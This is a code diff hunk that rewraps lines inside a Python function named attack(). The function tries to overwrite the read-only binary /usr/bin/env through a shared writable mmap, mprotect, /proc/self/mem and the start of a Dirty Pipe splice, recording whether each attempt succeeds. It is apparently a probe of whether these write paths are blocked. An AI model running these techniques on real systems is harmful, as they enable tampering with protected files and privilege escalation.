@@ -10,11 +10,13 @@ def attack():
     path = "/usr/bin/env"
     before, saw = read(path), {}
     fd = os.open(path, os.O_RDONLY)
-    saw["shared, writable"] = seen(mmap.mmap, fd, 0, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
+    saw["shared, writable"] = seen(mmap.mmap, fd, 0, mmap.MAP_SHARED,
+                                   mmap.PROT_READ | mmap.PROT_WRITE)
     libc.mmap.restype = ctypes.c_void_p
     at = libc.mmap(None, ctypes.c_size_t(4096), 1, 1, fd, ctypes.c_long(0))
     libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
-    saw["mprotect"] = "success" if libc.mprotect(at, 4096, 3) == 0 else errno.errorcode[ctypes.get_errno()]
+    saw["mprotect"] = ("success" if libc.mprotect(at, 4096, 3) == 0
+                       else errno.errorcode[ctypes.get_errno()])
     saw["/proc/self/mem"] = seen(lambda: os.pwrite(os.open("/proc/self/mem", os.O_RDWR), b"X", at))
     reader, writer = os.pipe()      # Dirty Pipe: leave merge flags behind, splice a page in, write
     for _ in range(16):
